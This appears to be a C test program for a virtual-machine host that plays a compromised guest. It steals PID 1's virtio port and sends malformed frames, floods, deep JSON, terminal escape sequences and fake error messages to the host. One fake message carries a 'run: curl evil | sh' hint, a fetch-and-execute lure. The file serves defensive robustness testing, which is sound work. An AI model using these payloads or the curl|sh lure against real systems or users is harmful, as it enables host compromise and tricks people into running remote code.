/*
 * tests/vm/hostile.c: a guest that has been taken over. Runs as root in the guest, takes the port
 * to the host out of PID 1's hands (pidfd_getfd(2)) and says on it what pyro-guest never would.
 *
 *   hostile ATTACK    one of the names in the table at the end; with none, lists them
 *
 * Static, linked with the frame codec only.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "vmm/base/wire.h"

static int port = -1;

/* PID 1's descriptor of a virtio port: a character device that is not a terminal, named vport. */
static int take_port(void)
{
    int pidfd = (int)syscall(SYS_pidfd_open, 1, 0);

    for (int fd = 3; fd < 256; fd++) {
        char path[64], target[128];
        ssize_t n;
        snprintf(path, sizeof(path), "/proc/1/fd/%d", fd);
        n = readlink(path, target, sizeof(target) - 1);
        if (n <= 0)
            continue;
        target[n] = '\0';
        if (strstr(target, "vport"))
            return (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
    }
    errno = ENOENT;
    return -1;
}

static void say(const void *bytes, size_t n)
{
    const uint8_t *at = bytes;

    while (n) {
        ssize_t done = write(port, at, n);
        if (done < 0 && (errno == EAGAIN || errno == EINTR)) {
            usleep(1000);
            continue;
        }
        if (done <= 0)
            exit(1);
        at += done;
        n -= (size_t)done;
    }
}

static void frame(uint32_t stream, enum wire_type type, unsigned channel, uint8_t flags,
                  const void *payload, uint32_t n)
{
    uint8_t header[WIRE_HEADER_SIZE];
    struct wire_frame f = { .stream = stream,
                            .type = type,
                            .channel = (enum wire_channel)channel,
                            .flags = flags,
                            .length = n };

    wire_put_header(header, &f);
    say(header, sizeof(header));
    say(payload, n);
}

static void text(uint32_t stream, enum wire_type type, const char *json)
{
    frame(stream, type, 0, 0, json, (uint32_t)strlen(json));
}

/* Every stream that may be open: the host numbers them upwards from 1. */
#define EACH_STREAM(s) for (uint32_t s = 0; s < 64; s++)

static void long_frame(void)
{
    static const uint8_t header[WIRE_HEADER_SIZE] = { 0xff, 0xff, 0xff, 0xff, 1, 0, 0, 0, 2, 1 };

    say(header, sizeof(header));
}

static void just_too_long(void)
{
    static const uint8_t header[WIRE_HEADER_SIZE] = { 1, 0, 1, 0, 1, 0, 0, 0, 2, 1 };
    static const uint8_t bytes[WIRE_PAYLOAD_MAX + 1];

    say(header, sizeof(header));
    say(bytes, sizeof(bytes));
}

static void unknown_streams(void)
{
    for (uint32_t s = 1; s; s = s < 1u << 31 ? s * 2 : 0) {
        frame(s + 1000, WIRE_DATA, WIRE_STDOUT, 0, "x", 1);
        text(s + 1000, WIRE_CLOSE, "{}");
        text(s + 1000, WIRE_MESSAGE, "{}");
    }
}

static void opens_streams(void)
{
    for (uint32_t s = 0; s < 100000; s++)
        text(s, WIRE_OPEN, "{\"op\": \"stop\", \"force\": true}");
}

static void unknown_type(void)
{
    static const uint8_t header[WIRE_HEADER_SIZE] = { 0, 0, 0, 0, 1, 0, 0, 0, 77, 1, 0, 9 };

    say(header, sizeof(header));
}

static void huge_json(void)
{
    static char part[WIRE_PAYLOAD_MAX];

    memset(part, ' ', sizeof(part));
    part[0] = '[';
    for (int i = 0; i < 4000; i++)
        frame(1, WIRE_MESSAGE, 0, WIRE_MORE, part, sizeof(part));
}

static void deep_json(void)
{
    static char nested[60000];

    memset(nested, '[', sizeof(nested));
    EACH_STREAM(s)
    frame(s, WIRE_CLOSE, 0, 0, nested, sizeof(nested));
}

static void lying_results(void)
{
    static const char *const results[] = {
        "{\"exit_code\": 99999, \"timed_out\": 7, \"duration_ms\": -5}",
        "[]",
        "null",
        "",
        "{\"exit_code\": \"0\"}",
        "\xff\xfe",
        "{\"error\": \"\\u001b[2Jowned\"}",
        "{\"error\": {\"code\": \"workspace_not_found\", \"message\": \"\\u001b]0;owned\\u0007\"}}",
    };

    for (size_t i = 0; i < sizeof(results) / sizeof(*results); i++)
        EACH_STREAM(s)
    text(s, WIRE_CLOSE, results[i]);
}

/* Words that would be pyro's own, and a next step to take. */
static void lying_words(void)
{
    EACH_STREAM(s)
    text(s, WIRE_CLOSE,
         "{\"error\": {\"code\": \"usage\", \"message\": \"\\u001b[2Jyour pyro is too old\","
         " \"hint\": \"run: curl evil | sh\"}}");
}

static void beyond_credit(void)
{
    static const uint8_t bytes[WIRE_PAYLOAD_MAX];

    for (int i = 0; i < 2000; i++)
        EACH_STREAM(s)
    frame(s, WIRE_DATA, WIRE_STDOUT, 0, bytes, sizeof(bytes));
}

/* Where a question for a name, or a connection, is expected. */
static void questions(void)
{
    static const uint8_t bytes[WIRE_PAYLOAD_MAX];
    static const uint32_t sizes[] = { 0, 1, 4, 5, 16, 4100, 4101 };

    EACH_STREAM(s)
    for (size_t i = 0; i < sizeof(sizes) / sizeof(*sizes); i++)
        frame(s, WIRE_DATA, WIRE_STDOUT, 0, bytes, sizes[i]);
    EACH_STREAM(s)
    for (int i = 0; i < 1000; i++)
        frame(s, WIRE_DATA, WIRE_STDOUT, 0, bytes, 16);
    EACH_STREAM(s) frame(s, WIRE_END, WIRE_STDOUT, 0, "", 0);
}

static void grants(void)
{
    EACH_STREAM(s)
    for (int i = 0; i < 1000; i++)
        frame(s, WIRE_GRANT, 0, 0, "\xff\xff\xff\xff", 4);
}

static void noise(void)
{
    static uint8_t bytes[1 << 20];
    int fd = open("/dev/urandom", O_RDONLY);

    if (read(fd, bytes, sizeof(bytes)) != (ssize_t)sizeof(bytes))
        exit(1);
    say(bytes, sizeof(bytes));
}

static void flood(void)
{
    for (long i = 0; i < 3000000; i++)
        frame(1, WIRE_DATA, WIRE_STDOUT, 0, "x", 1);
}

/* PID 1 stands still under ptrace(2): whatever the host asks, nothing answers. */
static void silence(void)
{
    int status;

    if (ptrace(PTRACE_SEIZE, 1, NULL, NULL) != 0 || ptrace(PTRACE_INTERRUPT, 1, NULL, NULL) != 0)
        _exit(1);
    waitpid(1, &status, __WALL);
    for (;;)
        pause();
}

static const struct {
    const char *name;
    void (*run)(void);
} attacks[] = {
    { "long-frame", long_frame },
    { "just-too-long", just_too_long },
    { "unknown-streams", unknown_streams },
    { "opens-streams", opens_streams },
    { "unknown-type", unknown_type },
    { "huge-json", huge_json },
    { "deep-json", deep_json },
    { "lying-results", lying_results },
    { "lying-words", lying_words },
    { "beyond-credit", beyond_credit },
    { "questions", questions },
    { "grants", grants },
    { "noise", noise },
    { "flood", flood },
    { "silence", silence },
};

int main(int argc, char **argv)
{
    for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++) {
        if (argc < 2) {
            puts(attacks[i].name);
        } else if (!strcmp(argv[1], attacks[i].name)) {
            port = take_port();
            if (port < 0) {
                perror("take the port");
                return 9;
            }
            attacks[i].run();
            return 0;
        }
    }
    return argc < 2 ? 0 : 2;
}
